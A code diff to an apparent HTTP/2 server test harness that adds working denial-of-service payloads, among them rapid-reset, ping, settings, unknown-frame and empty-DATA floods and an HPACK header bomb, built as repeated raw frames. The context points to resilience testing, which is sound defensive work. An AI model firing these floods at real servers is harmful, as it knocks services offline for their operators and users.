@@ -5,12 +5,43 @@ import statistics
 import threading
 import time
 
-from support.http2 import Http2
+from support.http2 import DATA, HEADERS, PING, Http2, frame, rst_stream, settings
 from support.http2_vectors import Case, units
 from support.proxy import Proxy
 
 RATE = 50  # requests a second of the other client, as the vectors' README says
 MIB = 1024  # in KiB
+
+
+def repeated(unit: bytes, times: int, each_stream: bool = False, first: bytes = b"") -> dict:
+    """An attack in the form of the vectors."""
+    steps: list[dict] = [{"send": first.hex()}] if first else []
+    step = {"send": unit.hex(), "repeat": times, "increment_stream": each_stream}
+    return {"steps": [*steps, step]}
+
+
+def get(end: bool = True) -> bytes:
+    block = bytes.fromhex("828684410161")  # GET http / a
+    return frame(HEADERS, 4 | int(end), 1, block)
+
+
+FLOODS = {
+    "rapid-reset": repeated(get() + rst_stream(1), 20_000, True),
+    "ping-flood": repeated(frame(PING, 0, 0, b"12345678"), 200_000),
+    "settings-flood": repeated(settings(), 200_000),
+    "unknown-flood": repeated(frame(77, 0, 0, b"x"), 200_000),
+    "empty-data-flood": repeated(frame(DATA, 0, 1), 200_000, first=get(end=False)),
+    "hpack-bomb": repeated(
+        frame(
+            HEADERS,
+            5,
+            1,
+            bytes.fromhex("828684410161") + b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 10000,
+        ),
+        50,
+        True,
+    ),
+}
 
 
 class OtherClient:
